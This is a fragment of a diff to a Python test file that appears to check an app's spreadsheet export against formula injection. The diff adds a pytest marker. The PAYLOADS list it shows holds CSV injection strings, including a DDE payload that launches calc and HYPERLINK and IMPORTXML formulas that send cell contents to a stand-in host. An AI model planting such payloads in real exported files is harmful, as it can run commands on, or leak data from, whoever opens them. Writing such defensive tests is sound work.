@@ -6,6 +6,8 @@ from hypothesis import strategies as st
 
 from app.exporting.cells import plain, safe
 
+pytestmark = pytest.mark.promise("R10")
+
 PAYLOADS = [
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "＝1+1", "＋1", "－1+1", "＠A1", "\t=1", "\r=1", "\n=1", "  =1+1", "\u3000=1",
     "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"y")', "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "-2+3",
